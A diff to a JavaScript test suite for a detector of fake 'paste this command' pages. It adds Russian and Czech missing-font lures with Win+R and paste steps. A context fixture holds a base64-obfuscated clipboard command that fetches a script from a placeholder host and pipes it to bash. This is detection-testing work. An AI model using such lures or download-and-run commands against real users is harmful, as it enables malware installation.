@@ -1462,6 +1462,9 @@ describe('analysis: signal rules', () => {
       const mac = judge('https://launcher-fix.example/mac', '<h1>Fix launcher error 1034</h1><p>Copy the command and paste it into Terminal.</p><button id="c">Copy</button><script>document.getElementById("c").onclick=function(){navigator.clipboard.writeText(\'/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9oLnNoIHwgYmFzaA== | base64 -d)"\')}</script>');
       assert.ok(ids(mac).includes('clipboard-shell-command'), JSON.stringify(ids(mac)));
       assert.equal(mac.verdict, 'malicious');
+      // A missing font said in Russian and Czech, whatever the word order, beside Run steps.
+      decides('clickfix-paste-pretext', 'https://forum-example.su/t/88', '<h1>Тема</h1><p>Шрифт «Roboto Cyrillic» не найден. Как установить шрифт: нажмите Win + R, вставьте Ctrl + V, нажмите Enter.</p>');
+      decides('clickfix-paste-pretext', 'https://recepty-example.cz/', '<h1>Recept</h1><p>Chybí písmo „Humanist CE“. Opravte to: stiskněte Win + R, vložte Ctrl + V a potvrďte Enter.</p>');
       // A national CERT's warning in Finnish quoting the fake check and its steps is a write-up.
       clean(judge('https://www.kyber-example.fi/ajankohtaista/valekaptchat', `<title>Vale-CAPTCHAt huijaavat käyttäjiä ajamaan haittakoodia</title><h1>Vale-CAPTCHAt huijaavat käyttäjiä</h1><p>${'Huijarit näyttävät väärennetyn «Vahvista, että olet ihminen» -ikkunan ja neuvovat painamaan Win + R, Ctrl + V ja Enter. Komento lataa haittaohjelman. '.repeat(4)}</p>`));
       clean(judge('https://docs.brewkit.example/install', '<title>Install | Brewkit docs</title><h1>Install Brewkit</h1><p>Paste this into Terminal:</p><pre id="cmd">/bin/bash -c "$(curl -fsSL https://docs.brewkit.example/install.sh)"</pre><button onclick="navigator.clipboard.writeText(document.getElementById(\'cmd\').textContent)">Copy</button><p>© 2026 Brewkit</p>'));
